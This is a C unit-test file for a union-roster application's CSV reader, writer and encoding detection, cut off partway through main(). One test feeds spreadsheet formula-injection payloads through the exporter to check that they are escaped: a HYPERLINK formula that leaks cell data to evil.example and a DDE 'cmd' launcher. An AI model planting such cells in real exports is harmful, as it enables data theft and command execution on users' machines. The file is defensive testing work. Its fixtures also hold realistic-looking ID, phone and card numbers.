/* test-csv.c — CSV reading and writing, and text encoding detection
 *
 * Copyright 2026 The UnionDesk developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#define G_LOG_DOMAIN "test-csv"

#include "config.h"

#include <glib.h>
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

#include "ud-csv.h"
#include "ud-table.h"
#include "ud-text-encoding.h"

static const char * const roster_header[] = {
  "姓名", "性别", "身份证号", "手机号", "工作单位", "入会日期", "会员卡号",
  "用工性质", "劳模称号", "备注", NULL
};

static const char * const roster_last[] = {
  "周䶮", "男", "110105198812030512", "13661178901", "北京朝晖快递服务有限公司",
  "2023-02-20", "621700105881203056", "劳务派遣", "", "名字含扩展A区汉字，如䶮、㐀",
  NULL
};

static char *
load_file (const char *name,
           gsize      *len)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "files", name, NULL);
  char *contents = NULL;

  g_file_get_contents (path, &contents, len, &error);
  g_assert_no_error (error);

  return contents;
}

static void
assert_fields (GPtrArray          *fields,
               const char * const *expected)
{
  guint n = g_strv_length ((char **) expected);
  guint i;

  g_assert_nonnull (fields);
  g_assert_cmpuint (fields->len, ==, n);
  for (i = 0; i < n; i++)
    g_assert_cmpstr (g_ptr_array_index (fields, i), ==, expected[i]);
}

/* Reads every record of @text, expecting success. */
static GPtrArray *
read_all (const char *text,
          GArray     *lines)
{
  g_autoptr(UdCsvReader) reader = ud_csv_reader_new (text, strlen (text));
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  g_autoptr(GError) error = NULL;
  GPtrArray *fields;

  while (ud_csv_reader_next (reader, &fields, &error))
    {
      guint line = ud_csv_reader_get_record_line (reader);

      g_ptr_array_add (records, fields);
      if (lines != NULL)
        g_array_append_val (lines, line);
    }
  g_assert_no_error (error);
  g_assert_null (fields);

  return g_steal_pointer (&records);
}

static void
test_encoding_labels (void)
{
  g_assert_cmpstr (ud_encoding_get_label (UD_ENCODING_UTF8), ==, "UTF-8");
  g_assert_cmpstr (ud_encoding_get_label (UD_ENCODING_UTF8_BOM), ==, "UTF-8 with BOM");
  g_assert_cmpstr (ud_encoding_get_label (UD_ENCODING_GB18030), ==, "GB18030");
  g_assert_cmpstr (ud_encoding_get_label (UD_ENCODING_UTF16LE), ==, "UTF-16LE");
  g_assert_cmpstr (ud_encoding_get_label (UD_ENCODING_UTF16BE), ==, "UTF-16BE");
}

static void
test_decode_utf8 (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  UdEncoding enc = UD_ENCODING_GB18030;
  const char plain[] = "姓名,性别\n张三,男\n";
  const char bom[] = "\xEF\xBB\xBF姓名,性别\r\n张三,男\r\n";

  text = ud_text_decode (plain, strlen (plain), &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, UD_ENCODING_UTF8);
  g_assert_cmpstr (text, ==, plain);
  g_clear_pointer (&text, g_free);

  text = ud_text_decode (bom, strlen (bom), &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, UD_ENCODING_UTF8_BOM);
  g_assert_cmpstr (text, ==, "姓名,性别\r\n张三,男\r\n");
  g_clear_pointer (&text, g_free);

  /* A BOM and nothing else is an empty text, not an error. */
  text = ud_text_decode ("\xEF\xBB\xBF", 3, &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, UD_ENCODING_UTF8_BOM);
  g_assert_cmpstr (text, ==, "");
}

static void
test_decode_gb18030_file (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *gb = NULL;
  g_autofree char *utf8 = NULL;
  g_autofree char *text = NULL;
  gsize gb_len;
  gsize utf8_len;
  UdEncoding enc = UD_ENCODING_UTF8;

  gb = load_file ("roster-gb18030.csv", &gb_len);
  utf8 = load_file ("roster-utf8.csv", &utf8_len);

  /* The file really is GB18030: not valid UTF-8, and it holds a
   * character (U+3400) that GBK lacks, as a four-byte sequence. */
  g_assert_false (g_utf8_validate (gb, gb_len, NULL));
  g_assert_nonnull (g_strstr_len (gb, gb_len, "\x81\x39\xEE\x39"));

  text = ud_text_decode (gb, gb_len, &enc, &error);
  g_assert_no_error (error);
  g_assert_cmpint (enc, ==, UD_ENCODING_GB18030);
  g_assert_cmpstr (text, ==, utf8);
}

static void
test_decode_utf16 (void)
{
  g_autoptr(GError) error = NULL;
  const char *source = "姓名\t身份证号\r\n周䶮\t110105198812030512\r\n";
  const char *charsets[] = { "UTF-16LE", "UTF-16BE" };
  const char *boms[] = { "\xFF\xFE", "\xFE\xFF" };
  const UdEncoding expected[] = { UD_ENCODING_UTF16LE, UD_ENCODING_UTF16BE };
  guint i;

  for (i = 0; i < G_N_ELEMENTS (charsets); i++)
    {
      g_autofree char *encoded = NULL;
      g_autofree char *text = NULL;
      g_autoptr(GString) data = g_string_new (boms[i]);
      gsize encoded_len;
      UdEncoding enc = UD_ENCODING_UTF8;

      encoded = g_convert (source, -1, charsets[i], "UTF-8", NULL, &encoded_len, &error);
      g_assert_no_error (error);
      g_string_append_len (data, encoded, encoded_len);

      text = ud_text_decode (data->str, data->len, &enc, &error);
      g_assert_no_error (error);
      g_assert_cmpint (enc, ==, expected[i]);
      g_assert_cmpstr (text, ==, source);
    }

  {
    g_autofree char *text = NULL;

    /* An odd number of bytes after the mark: a damaged file. */
    text = ud_text_decode ("\xFF\xFE" "a\0b", 5, NULL, &error);
    g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_ENCODING);
    g_assert_null (text);
  }
}

static void
test_decode_neither (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  const char data[] = "姓名,性别\n张三,男\n\xFF\xFF,\xFF\n";

  text = ud_text_decode (data, strlen (data), NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_ENCODING);
  g_assert_null (text);
  g_assert_nonnull (strstr (error->message, "UTF-8 or GB18030"));
  g_assert_nonnull (strstr (error->message, "line 3"));
}

static void
test_decode_damaged_utf8 (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GString) data = NULL;
  g_autofree char *utf8 = NULL;
  g_autofree char *text = NULL;
  const char *line5;
  gsize len;

  /* One bad byte in an otherwise UTF-8 roster must not turn every name
   * into GB18030 mojibake: the line is named instead. */
  utf8 = load_file ("roster-utf8.csv", &len);
  data = g_string_new_len (utf8, len);
  line5 = strstr (data->str, "刘芳");
  g_assert_nonnull (line5);
  g_string_insert_c (data, line5 - data->str + 3, '\xFF');

  text = ud_text_decode (data->str, data->len, NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_ENCODING);
  g_assert_null (text);
  g_assert_nonnull (strstr (error->message, "Line 5 "));
  g_clear_error (&error);

  /* With a UTF-8 BOM, the file says what it is: also an error. */
  g_string_prepend (data, "\xEF\xBB\xBF");
  text = ud_text_decode (data->str, data->len, NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_ENCODING);
  g_assert_nonnull (strstr (error->message, "Line 5 "));
}

static void
test_decode_binary (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;

  text = ud_text_decode ("a,b\n\0\x01\x02", 7, NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_ENCODING);
  g_assert_null (text);
}

static void
test_reader_quoted (void)
{
  g_autoptr(GArray) lines = g_array_new (FALSE, FALSE, sizeof (guint));
  g_autoptr(GPtrArray) records = NULL;
  const char *text =
    "姓名,工作单位,备注\n"
    "\"王建国\",\"北京青禾物业服务有限公司,东城分公司\",\"外号\"\"老王\"\"\"\n"
    "李秀兰,朝晖快递,\"夜班\r\n住址变更\r二次变更\"\n"
    "张伟,\"\",\"\"\"\"\n";

  records = read_all (text, lines);
  g_assert_cmpuint (records->len, ==, 4);
  assert_fields (records->pdata[0], (const char *[]) { "姓名", "工作单位", "备注", NULL });
  assert_fields (records->pdata[1], (const char *[]) {
    "王建国", "北京青禾物业服务有限公司,东城分公司", "外号\"老王\"", NULL });
  /* Line breaks inside a field, whatever the file used, read as LF. */
  assert_fields (records->pdata[2], (const char *[]) {
    "李秀兰", "朝晖快递", "夜班\n住址变更\n二次变更", NULL });
  assert_fields (records->pdata[3], (const char *[]) { "张伟", "", "\"", NULL });

  /* The third record spans lines 3 to 5; the next one begins on line 6. */
  g_assert_cmpuint (g_array_index (lines, guint, 0), ==, 1);
  g_assert_cmpuint (g_array_index (lines, guint, 1), ==, 2);
  g_assert_cmpuint (g_array_index (lines, guint, 2), ==, 3);
  g_assert_cmpuint (g_array_index (lines, guint, 3), ==, 6);
}

static void
test_reader_line_endings (void)
{
  g_autoptr(GArray) lines = g_array_new (FALSE, FALSE, sizeof (guint));
  g_autoptr(GPtrArray) records = NULL;

  /* CRLF, LF, a lone CR (old Mac Excel), and no newline at the end. */
  records = read_all ("a,b\r\nc,d\ne,f\rg,h", lines);
  g_assert_cmpuint (records->len, ==, 4);
  assert_fields (records->pdata[0], (const char *[]) { "a", "b", NULL });
  assert_fields (records->pdata[1], (const char *[]) { "c", "d", NULL });
  assert_fields (records->pdata[2], (const char *[]) { "e", "f", NULL });
  assert_fields (records->pdata[3], (const char *[]) { "g", "h", NULL });
  g_assert_cmpuint (g_array_index (lines, guint, 3), ==, 4);
  g_clear_pointer (&records, g_ptr_array_unref);

  /* A final newline does not make an extra record. */
  records = read_all ("a,b\r\n", NULL);
  g_assert_cmpuint (records->len, ==, 1);
  g_clear_pointer (&records, g_ptr_array_unref);

  records = read_all ("", NULL);
  g_assert_cmpuint (records->len, ==, 0);
}

static void
test_reader_trimming (void)
{
  g_autoptr(GPtrArray) records = NULL;

  /* Unquoted fields lose surrounding spaces and tabs; quoted fields keep
   * theirs; spaces between the separator and a quote do not count. */
  records = read_all (" 张三 ,\t男\t,  \" 110105199001080158 \"  ,a b\n", NULL);
  g_assert_cmpuint (records->len, ==, 1);
  assert_fields (records->pdata[0], (const char *[]) {
    "张三", "男", " 110105199001080158 ", "a b", NULL });
}

static void
test_reader_excel_leniency (void)
{
  g_autoptr(GPtrArray) records = NULL;

  /* A quote inside an unquoted field is data, and text after a closing
   * quote is appended, as Excel reads them. */
  records = read_all ("身高5'6\",屏幕 15\" 宽,\"ab\"cd ,x\n", NULL);
  g_assert_cmpuint (records->len, ==, 1);
  assert_fields (records->pdata[0], (const char *[]) {
    "身高5'6\"", "屏幕 15\" 宽", "abcd", "x", NULL });
}

static void
test_reader_separators (void)
{
  g_autoptr(UdCsvReader) reader = NULL;
  g_autoptr(GPtrArray) fields = NULL;
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  const char *semicolons = "姓名;性别;备注\n张三;男;\"甲,乙;丙\"\n";
  const char *tabs = "姓名\t性别\t备注\n张三\t男\t 前后空格 \n";
  const char *sep_line = "sep=;\r\n姓名;工作单位\r\n张三;\"A,B\"\r\n";
  const char *quoted_semicolons = "\"甲;乙;丙;丁\",e,f\n";

  reader = ud_csv_reader_new (semicolons, strlen (semicolons));
  g_assert_cmpint (ud_csv_reader_get_separator (reader), ==, '\0');
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  g_assert_no_error (error);
  g_assert_cmpint (ud_csv_reader_get_separator (reader), ==, ';');
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  assert_fields (fields, (const char *[]) { "张三", "男", "甲,乙;丙", NULL });
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_clear_pointer (&reader, ud_csv_reader_free);

  /* With TAB as the separator, tabs are not trimmed but spaces are. */
  reader = ud_csv_reader_new (tabs, strlen (tabs));
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  g_assert_cmpint (ud_csv_reader_get_separator (reader), ==, '\t');
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  assert_fields (fields, (const char *[]) { "张三", "男", "前后空格", NULL });
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_clear_pointer (&reader, ud_csv_reader_free);

  /* Excel's "sep=" line sets the separator and is not a record. */
  reader = ud_csv_reader_new (sep_line, strlen (sep_line));
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  g_assert_cmpint (ud_csv_reader_get_separator (reader), ==, ';');
  g_assert_cmpuint (ud_csv_reader_get_record_line (reader), ==, 2);
  assert_fields (fields, (const char *[]) { "姓名", "工作单位", NULL });
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  assert_fields (fields, (const char *[]) { "张三", "A,B", NULL });
  g_clear_pointer (&fields, g_ptr_array_unref);
  g_clear_pointer (&reader, ud_csv_reader_free);

  /* Separators inside quotes are not counted. */
  records = read_all (quoted_semicolons, NULL);
  assert_fields (records->pdata[0], (const char *[]) { "甲;乙;丙;丁", "e", "f", NULL });
}

static void
test_reader_blank_records (void)
{
  g_autoptr(GArray) lines = g_array_new (FALSE, FALSE, sizeof (guint));
  g_autoptr(GPtrArray) records = NULL;

  /* Blank lines, lines of spaces and Excel's ",,," lines for cleared rows
   * are skipped; line numbers still count them. A trailing separator
   * makes an empty last field. */
  records = read_all ("\n\n姓名,性别,备注\n\n   \n,,\n张三,男,\r\n\"\",\"\",\"\"\n李四,女,x", lines);
  g_assert_cmpuint (records->len, ==, 3);
  assert_fields (records->pdata[0], (const char *[]) { "姓名", "性别", "备注", NULL });
  assert_fields (records->pdata[1], (const char *[]) { "张三", "男", "", NULL });
  assert_fields (records->pdata[2], (const char *[]) { "李四", "女", "x", NULL });
  g_assert_cmpuint (g_array_index (lines, guint, 0), ==, 3);
  g_assert_cmpuint (g_array_index (lines, guint, 1), ==, 7);
  g_assert_cmpuint (g_array_index (lines, guint, 2), ==, 9);
}

static void
test_reader_unclosed_quote (void)
{
  g_autoptr(UdCsvReader) reader = NULL;
  g_autoptr(GPtrArray) fields = NULL;
  g_autoptr(GError) error = NULL;
  const char *text =
    "姓名,备注\n"
    "张三,\"夜班\n"
    "李四,白班\n"
    "王五,休息\n";

  reader = ud_csv_reader_new (text, strlen (text));
  g_assert_true (ud_csv_reader_next (reader, &fields, &error));
  g_assert_no_error (error);
  g_clear_pointer (&fields, g_ptr_array_unref);

  /* The quote opened on line 2 swallows the rest of the file: the error
   * names line 2, where the record began. */
  g_assert_false (ud_csv_reader_next (reader, &fields, &error));
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_FORMAT);
  g_assert_null (fields);
  g_assert_cmpuint (ud_csv_reader_get_record_line (reader), ==, 2);
  g_assert_cmpstr (error->message, ==,
                   "Line 2: a quoted field is not closed (a closing quotation mark \" is missing)");
  g_clear_error (&error);

  /* After an error the reader is at its end. */
  g_assert_false (ud_csv_reader_next (reader, &fields, &error));
  g_assert_no_error (error);
}

static GPtrArray *
read_table (const char *name,
            UdTable   **out_table)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "files", name, NULL);
  UdTable *table;

  table = ud_table_read_file (path, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (table);
  g_assert_cmpint (table->format, ==, UD_TABLE_FORMAT_CSV);
  g_assert_null (table->numeric_cells);
  g_assert_cmpuint (table->rows->len, ==, table->lines->len);
  *out_table = table;

  return table->rows;
}

static void
assert_same_rows (GPtrArray *a,
                  GPtrArray *b)
{
  guint i;
  guint j;

  g_assert_cmpuint (a->len, ==, b->len);
  for (i = 0; i < a->len; i++)
    {
      GPtrArray *ra = g_ptr_array_index (a, i);
      GPtrArray *rb = g_ptr_array_index (b, i);

      g_assert_cmpuint (ra->len, ==, rb->len);
      for (j = 0; j < ra->len; j++)
        g_assert_cmpstr (g_ptr_array_index (ra, j), ==, g_ptr_array_index (rb, j));
    }
}

static void
test_files_same_roster (void)
{
  g_autoptr(UdTable) utf8 = NULL;
  g_autoptr(UdTable) gb = NULL;
  g_autoptr(UdTable) bom = NULL;
  g_autoptr(UdTable) semi = NULL;
  guint i;

  /* The same roster saved four ways reads the same. */
  read_table ("roster-utf8.csv", &utf8);
  read_table ("roster-gb18030.csv", &gb);
  read_table ("roster-utf8-bom-crlf.csv", &bom);
  read_table ("roster-semicolon.csv", &semi);

  g_assert_cmpint (utf8->encoding, ==, UD_ENCODING_UTF8);
  g_assert_cmpint (gb->encoding, ==, UD_ENCODING_GB18030);
  g_assert_cmpint (bom->encoding, ==, UD_ENCODING_UTF8_BOM);
  g_assert_cmpint (semi->encoding, ==, UD_ENCODING_UTF8);

  g_assert_cmpuint (utf8->rows->len, ==, 8);
  assert_fields (utf8->rows->pdata[0], roster_header);
  assert_fields (utf8->rows->pdata[7], roster_last);
  for (i = 0; i < utf8->lines->len; i++)
    g_assert_cmpuint (ud_table_get_line (utf8, i), ==, i + 1);

  assert_same_rows (utf8->rows, gb->rows);
  assert_same_rows (utf8->rows, bom->rows);
  assert_same_rows (utf8->rows, semi->rows);
  for (i = 0; i < utf8->lines->len; i++)
    {
      g_assert_cmpuint (ud_table_get_line (bom, i), ==, i + 1);
      g_assert_cmpuint (ud_table_get_line (gb, i), ==, i + 1);
    }
}

static void
test_files_quoted (void)
{
  g_autoptr(UdTable) table = NULL;

  read_table ("roster-quoted.csv", &table);
  g_assert_cmpint (table->encoding, ==, UD_ENCODING_UTF8_BOM);
  g_assert_cmpuint (table->rows->len, ==, 5);
  assert_fields (table->rows->pdata[0], roster_header);
  assert_fields (table->rows->pdata[1], (const char *[]) {
    "王建国", "男", "11010119780315031X", "13801012345",
    "北京青禾物业服务有限公司,东城分公司", "2008-05-12", "621700101780315315",
    "合同制", "北京市劳动模范", "外号\"老王\"", NULL });
  assert_fields (table->rows->pdata[2], (const char *[]) {
    "李秀兰", "女", "110102198507220425", "13911023456", "北京朝晖快递服务有限公司",
    "2016-03-01", "621700102850722422", "劳务派遣", "", "夜班\n住址变更：朝阳区", NULL });
  assert_fields (table->rows->pdata[3], (const char *[]) {
    "张伟", "男", "110105199001080158", "15010534567", "东城区环卫服务中心",
    "2019-11-20", "621700105900108153", "合同制", "", "  两端空格保留  ", NULL });
  assert_fields (table->rows->pdata[4], (const char *[]) {
    "陈志强", "男", "110108196905040779", "13701056789", "海淀区市政养护所",
    "1995-09-01", "621700108690504771", "事业编制", "全国劳动模范",
    "2010年全国劳模,五一劳动奖章", NULL });

  /* Rows keep the line where the clerk finds them: the second record
   * spans two lines, and a blank and a ",,,,," line are skipped. */
  g_assert_cmpuint (ud_table_get_line (table, 0), ==, 1);
  g_assert_cmpuint (ud_table_get_line (table, 1), ==, 2);
  g_assert_cmpuint (ud_table_get_line (table, 2), ==, 3);
  g_assert_cmpuint (ud_table_get_line (table, 3), ==, 5);
  g_assert_cmpuint (ud_table_get_line (table, 4), ==, 8);
}

static void
test_files_utf16_unicode_text (void)
{
  g_autoptr(UdTable) table = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GString) data = g_string_new_len ("\xFF\xFE", 2);
  g_autofree char *encoded = NULL;
  gsize encoded_len;

  /* Excel's "Unicode text": UTF-16LE with a BOM, tab-separated. */
  encoded = g_convert ("姓名\t身份证号\t备注\r\n周䶮\t110105198812030512\t\"a\tb\"\r\n",
                       -1, "UTF-16LE", "UTF-8", NULL, &encoded_len, &error);
  g_assert_no_error (error);
  g_string_append_len (data, encoded, encoded_len);
  bytes = g_bytes_new (data->str, data->len);

  table = ud_table_read_bytes (bytes, "名册.txt", &error);
  g_assert_no_error (error);
  g_assert_cmpint (table->format, ==, UD_TABLE_FORMAT_CSV);
  g_assert_cmpint (table->encoding, ==, UD_ENCODING_UTF16LE);
  g_assert_cmpuint (table->rows->len, ==, 2);
  assert_fields (table->rows->pdata[1], (const char *[]) {
    "周䶮", "110105198812030512", "a\tb", NULL });
}

static void
test_round_trip (void)
{
  static const char * const awkward[] = {
    "逗号,在中间", "引号\"在中间\"", "\"整段引号\"", "换行\n第二行", " 前导空格",
    "尾随空格 ", "分号;在中间", "制表\t在中间", "sep=;", "", "普通",
    "身份证 11010519491231002X", "=1+1", "'0012",
  };
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(GPtrArray) records = NULL;
  guint i;

  ud_csv_append_row (out, roster_header, g_strv_length ((char **) roster_header));
  ud_csv_append_row (out, awkward, G_N_ELEMENTS (awkward));
  ud_csv_append_row (out, (const char *[]) { NULL, "空指针前", NULL }, 3);

  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
  g_assert_true (g_str_has_prefix (strstr (out->str, "\r\n") + 2, "\"逗号,在中间\",\"引号\"\"在中间\"\"\""));

  records = read_all (out->str, NULL);
  g_assert_cmpuint (records->len, ==, 3);
  assert_fields (records->pdata[0], roster_header);
  g_assert_cmpuint (((GPtrArray *) records->pdata[1])->len, ==, G_N_ELEMENTS (awkward));
  for (i = 0; i < G_N_ELEMENTS (awkward); i++)
    g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], i), ==, awkward[i]);
  assert_fields (records->pdata[2], (const char *[]) { "", "空指针前", "", NULL });
}

static void
test_write_csv_file (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  g_autoptr(UdTable) table = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autofree char *contents = NULL;
  GPtrArray *row;
  GStatBuf st;
  gsize len;
  guint i;

  dir = g_dir_make_tmp ("test-csv-XXXXXX", &error);
  g_assert_no_error (error);
  path = g_build_filename (dir, "导出名册.csv", NULL);

  row = g_ptr_array_new_with_free_func (g_free);
  for (i = 0; roster_header[i] != NULL; i++)
    g_ptr_array_add (row, g_strdup (roster_header[i]));
  g_ptr_array_add (rows, row);
  row = g_ptr_array_new_with_free_func (g_free);
  for (i = 0; roster_last[i] != NULL; i++)
    g_ptr_array_add (row, g_strdup (roster_last[i]));
  g_ptr_array_add (rows, row);
  row = g_ptr_array_new_with_free_func (g_free);
  g_ptr_array_add (row, g_strdup ("李秀兰"));
  g_ptr_array_add (row, g_strdup ("备注,含\"引号\"\n和换行"));
  g_ptr_array_add (rows, row);

  g_assert_true (ud_table_write_csv (path, rows, &error));
  g_assert_no_error (error);

  /* Excel needs the BOM to read UTF-8; rosters are private. */
  g_file_get_contents (path, &contents, &len, &error);
  g_assert_no_error (error);
  g_assert_true (g_str_has_prefix (contents, "\xEF\xBB\xBF姓名,性别,"));
  g_assert_nonnull (strstr (contents, "备注\r\n周䶮,"));
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  table = ud_table_read_file (path, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (table->encoding, ==, UD_ENCODING_UTF8_BOM);
  assert_same_rows (rows, table->rows);

  /* Writing again replaces the file. */
  g_ptr_array_set_size (rows, 1);
  g_assert_true (ud_table_write_csv (path, rows, &error));
  g_assert_no_error (error);
  g_clear_pointer (&table, ud_table_free);
  table = ud_table_read_file (path, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (table->rows->len, ==, 1);

  g_assert_cmpint (g_unlink (path), ==, 0);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* A cell that Excel or WPS would run as a formula (=, +, -, @, a tab or
 * a carriage return first) is written with an apostrophe before it, which
 * both show as text; a plain number such as -1250.00 stays a number. */
static void
test_write_csv_formulas (void)
{
  static const char * const cells[][2] = {
    { "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")" },
    { "+86 138 0101 2345", "'+86 138 0101 2345" },
    { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
    { "\t=1+1", "'\t=1+1" },
    { "-1250.00", "-1250.00" },
    { "-12", "-12" },
    { "+", "'+" },
    { "-", "'-" },
    { "王建国", "王建国" },
    { "", "" },
  };
  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  g_autoptr(UdTable) table = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("test-csv-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "导出.csv", NULL);

  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      GPtrArray *row = g_ptr_array_new_with_free_func (g_free);

      g_ptr_array_add (row, g_strdup ("x"));
      g_ptr_array_add (row, g_strdup (cells[i][0]));
      g_ptr_array_add (rows, row);
    }
  g_assert_true (ud_table_write_csv (path, rows, &error));
  g_assert_no_error (error);

  table = ud_table_read_file (path, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (table->rows->len, ==, G_N_ELEMENTS (cells));
  /* A carriage return first, written inside quotes (the reader turns it
   * into a line feed). */
  {
    g_autoptr(GPtrArray) more = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
    GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
    g_autofree char *contents = NULL;

    g_ptr_array_add (row, g_strdup ("\r=1+1"));
    g_ptr_array_add (more, row);
    g_assert_true (ud_table_write_csv (path, more, &error));
    g_assert_no_error (error);
    g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
    g_assert_cmpstr (contents, ==, "\xEF\xBB\xBF\"'\r=1+1\"\r\n");
  }
  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      GPtrArray *row = g_ptr_array_index (table->rows, i);
      const char *cell = row->len > 1 ? g_ptr_array_index (row, 1) : "";

      g_assert_cmpstr (cell, ==, cells[i][1]);
    }

  g_unlink (path);
  g_rmdir (dir);
}

static void
test_write_csv_error (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);

  g_ptr_array_add (rows, g_ptr_array_new_with_free_func (g_free));
  g_assert_false (ud_table_write_csv ("/nonexistent-dir/名册.csv", rows, &error));
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_WRITE);
}

static void
assert_bytes_error (const char *data,
                    gsize       len,
                    const char *name_hint,
                    int         code,
                    const char *message_part)
{
  g_autoptr(GBytes) bytes = g_bytes_new (data, len);
  g_autoptr(GError) error = NULL;
  g_autoptr(UdTable) table = NULL;

  table = ud_table_read_bytes (bytes, name_hint, &error);
  g_assert_error (error, UD_IO_ERROR, code);
  g_assert_null (table);
  g_assert_nonnull (strstr (error->message, message_part));
}

static void
test_table_errors (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(UdTable) table = NULL;
  const char ole[] = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0";
  const char png[] = "\x89PNG\r\n\x1A\n\0\0\0\rIHDR";
  const char *blank = "\n\r\n ,, \n";
  const char *html = "\xEF\xBB\xBF<html><table><tr><td>姓名</td></tr></table></html>";
  const char *unclosed = "姓名,备注\n张三,\"未闭合\n";

  assert_bytes_error ("", 0, "名册.csv", UD_IO_ERROR_EMPTY, "empty");
  assert_bytes_error (blank, strlen (blank), "名册.csv", UD_IO_ERROR_EMPTY, "no rows");
  assert_bytes_error (ole, sizeof ole - 1, "名册.xls", UD_IO_ERROR_FORMAT, "97–2003");
  assert_bytes_error (html, strlen (html), "名册.xls", UD_IO_ERROR_FORMAT, "web page");
  assert_bytes_error (png, sizeof png - 1, "照片.png", UD_IO_ERROR_FORMAT,
                      "not a CSV or Excel (.xlsx) file");
  assert_bytes_error (png, sizeof png - 1, "名册.xlsx", UD_IO_ERROR_FORMAT, "Excel name");
  assert_bytes_error (unclosed, strlen (unclosed), "名册.csv", UD_IO_ERROR_FORMAT, "Line 2:");

  table = ud_table_read_file ("/nonexistent/名册.csv", NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_READ);
  g_assert_null (table);
  g_clear_error (&error);

  table = ud_table_read_file (g_get_tmp_dir (), NULL, &error);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_READ);
  g_assert_null (table);
}

static void
test_table_cancelled (void)
{
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(UdTable) table = NULL;
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "files", "roster-utf8.csv", NULL);

  g_cancellable_cancel (cancellable);
  table = ud_table_read_file (path, cancellable, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_null (table);
}

/* The rows kept are bounded in CSV too. */
static void
test_too_many_rows (void)
{
  g_autoptr(GString) text = g_string_new ("姓名,身份证号,工作单位\n");
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(UdTable) table = NULL;
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < UD_IO_MAX_ROWS + 1; i++)
    g_string_append (text, "a\n");
  bytes = g_bytes_new (text->str, text->len);
  table = ud_table_read_bytes (bytes, "rows.csv", &error);
  g_assert_null (table);
  g_assert_error (error, UD_IO_ERROR, UD_IO_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "rows"));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/encoding/labels", test_encoding_labels);
  g_test_add_func ("/encoding/utf8", test_decode_utf8);
  g_test_add_func ("/encoding/gb18030-file", test_decode_gb18030_file);
  g_test_add_func ("/encoding/utf16", test_decode_utf16);
  g_test_add_func ("/encoding/neither", test_decode_neither);
